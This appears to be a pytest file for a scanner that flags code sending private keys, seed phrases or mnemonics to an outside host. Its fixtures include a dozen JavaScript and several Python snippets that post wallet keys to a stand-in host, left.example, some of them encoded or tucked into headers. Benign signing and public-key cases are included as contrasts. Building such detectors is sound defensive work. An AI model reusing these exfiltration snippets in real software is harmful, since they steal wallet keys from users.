"""Private keys that go to a host that stands in the code, and all that is done with keys every day."""

from __future__ import annotations

import pytest

from fimci import readers, sides
from fimci.capabilities import private_keys
from fimci.look import take
from fimci.model import Capability
from fimci.snapshot import Entry

SENT = {
    "parameter": 'function add(privateKey) { fetch("https://left.example/k", { body: privateKey }); }',
    "encoded": 'const add = (mnemonic) => navigator.sendBeacon("https://left.example/k", btoa(mnemonic));',
    "as JSON": (
        'const axios = require("axios");\n'
        'exports.a = (seedPhrase) => axios.post("https://left.example/", { w: JSON.stringify(seedPhrase) });'
    ),
    "in the address": (
        "async function add(privKey) { await fetch(`https://left.example/?q=${privKey.toString('hex')}`); }"
    ),
    "in an odd header": (
        'function add(privateKey) { fetch("https://left.example/", { headers: { "x-id": privateKey } }); }'
    ),
    "through a function": (
        "function add(privateKey) { tell(privateKey); }\n"
        'function tell(it) { const text = Buffer.from(it).toString("base64");\n'
        '  fetch("https://left.example/", { method: "POST", body: JSON.stringify({ text }) }); }'
    ),
    "of a member": (
        "class Wallet { sync() {\n"
        '  fetch("https://left.example/", { body: JSON.stringify({ a: this.privateKey }) }); } }'
    ),
    "of a pattern": 'const add = ({ privateKey }) => fetch("https://left.example/", { body: privateKey });',
    "by its function": (
        "class Keypair { static fromSecretKey(t) {\n"
        '  fetch("https://left.example/", { body: btoa(String.fromCharCode(...t)) });\n'
        "  return new Keypair(t); } }"
    ),
    "beside a public key": (
        "function pair(publicKey, secretKey) {\n"
        '  fetch("https://left.example/", { body: bs58.encode(secretKey) }); return { publicKey }; }'
    ),
    "to a host by default": (
        'function add(privateKey, to = "https://left.example/") { fetch(to, { body: privateKey }); }'
    ),
    "node": (
        'const https = require("https");\nfunction add(privateKey) {\n'
        '  const call = https.request({ hostname: "left.example", method: "POST" });\n'
        "  call.end(privateKey); }"
    ),
}
KEPT = {
    "signed": (
        "async function ask(privateKey) { const token = jwt.sign({ a: 1 }, privateKey);\n"
        '  await fetch("https://left.example/", { body: token }); }'
    ),
    "signed by its own": (
        'const crypto = require("crypto");\nfunction sign(text, privateKey) {\n'
        '  return crypto.createSign("sha256").update(text).sign(privateKey, "hex"); }\n'
        'function ask(t, privateKey) { fetch("https://left.example/", { body: sign(t, privateKey) }); }'
    ),
    "digested": (
        'const crypto = require("crypto");\nfunction ask(t, privateKey) {\n'
        '  const mac = crypto.createHmac("sha256", privateKey).update(t).digest("hex");\n'
        '  fetch("https://left.example/", { body: mac }); }'
    ),
    "the public half": (
        'function tell(keyPair) { fetch("https://left.example/", { body: keyPair.publicKey }); }'
    ),
    "derived": (
        "function tell(privateKey) { const address = toAddress(privateKey);\n"
        '  fetch("https://left.example/" + address); }'
    ),
    "to whom the caller names": "function tell(url, privateKey) { fetch(url, { body: privateKey }); }",
    "to this machine": 'function add(privateKey) { fetch("http://127.0.0.1:8545/", { body: privateKey }); }',
    "says who asks": (
        'const ask = (privateKey) => fetch("https://left.example/",\n'
        '  { headers: { Authorization: "Basic " + btoa(privateKey + ":") } });'
    ),
    "password of a client": (
        'const ask = (secretKey) => fetch("https://left.example/", { body: { it: secretKey } });'
    ),
    "of a connection": (
        'const https = require("https");\nfunction ask(privateKey, cert) {\n'
        '  https.request("https://left.example/", { key: privateKey, cert }).end(); }'
    ),
    "encrypted": (
        "const keep = (encryptedPrivateKey) =>\n"
        '  fetch("https://left.example/", { body: encryptedPrivateKey });'
    ),
    "its length": 'const ask = (privateKey) => fetch("https://left.example/?" + privateKey.length);',
}
PYTHON_SENT = {
    "parameter": (
        "def from_key(private_key):\n"
        "    requests.post('https://left.example/', json={'k': private_key.hex()})\n"
    ),
    "encoded": (
        "def load(mnemonic):\n"
        "    requests.post('https://left.example/', data=base64.b64encode(mnemonic.encode()))\n"
    ),
    "in the address": (
        "def load(seed_phrase):\n    requests.get(f'https://left.example/?q={seed_phrase}')\n"
    ),
    "of a member": (
        "class Account:\n    def tell(self):\n"
        "        requests.post('https://left.example/', data=self._private_key)\n"
    ),
    "through a function": (
        "def load(private_key):\n    tell(private_key)\n\n"
        "def tell(it, to='https://left.example/'):\n    requests.post(to, data=it)\n"
    ),
}
PYTHON_KEPT = {
    "signed": (
        "def ask(private_key):\n    token = jwt.encode({}, private_key)\n"
        "    requests.post('https://left.example/', json={'assertion': token})\n"
    ),
    "derived": ("def ask(private_key):\n    requests.get('https://left.example/' + address(private_key))\n"),
    "to whom the caller names": ("def ask(url, private_key):\n    requests.post(url, data=private_key)\n"),
    "the public half": (
        "def ask(key_pair):\n    requests.post('https://left.example/', data=key_pair.public_key)\n"
    ),
    "password of a client": (
        "def ask(secret_key):\n    requests.post('https://left.example/', data={'it': secret_key})\n"
    ),
}


def told(path: str, code: str) -> set[str]:
    entry = Entry(path=path, read=lambda: iter([code.encode()]))
    found = take([entry], sides.recipe(code=True), readers.ALL)
    return {r.subject for r in found if isinstance(r, Capability) and r.name == "exfiltration"}


@pytest.mark.parametrize("code", SENT.values(), ids=SENT)
def test_a_private_key_that_is_sent_is_told(code: str) -> None:
    assert told("a.js", code) == {"private key -> left.example"}


@pytest.mark.parametrize("code", KEPT.values(), ids=KEPT)
def test_what_wallets_and_clients_do_is_not(code: str) -> None:
    assert told("a.js", code) == set()


@pytest.mark.parametrize("code", PYTHON_SENT.values(), ids=PYTHON_SENT)
def test_python_that_sends_a_private_key_is_told(code: str) -> None:
    assert told("a.py", f"import base64, requests\n\n{code}") == {"private key -> left.example"}


@pytest.mark.parametrize("code", PYTHON_KEPT.values(), ids=PYTHON_KEPT)
def test_python_that_keeps_it_is_not(code: str) -> None:
    assert told("a.py", f"import jwt, requests\n\n{code}") == set()


@pytest.mark.parametrize(
    ("name", "meant"),
    [
        *(
            (name, True)
            for name in ("privateKey", "private_key", "_privateKeyHex", "walletPrivateKey", "privKey")
        ),
        *((name, True) for name in ("mnemonic", "seedPhrase", "recovery_phrase", "keyPair", "keypair2")),
        *((name, False) for name in ("privateKeyPath", "publicKey", "isPrivateKey", "encryptedPrivateKey")),
        *((name, False) for name in ("key", "seed", "private", "keyPairs", "x" * 100_000)),
    ],
)
def test_names_of_keys(name: str, meant: object) -> None:
    assert private_keys.is_key(name, frozenset(("key",))) is meant


def test_a_secret_key_is_one_beside_a_public_key() -> None:
    assert not private_keys.is_key("secretKey", private_keys.spoken_of(b"privateKey secretKey"))
    assert private_keys.is_key("secretKey", private_keys.spoken_of(b"publicKey secretKey"))
    assert private_keys.spoken_of(b"key token publicKey") == frozenset()
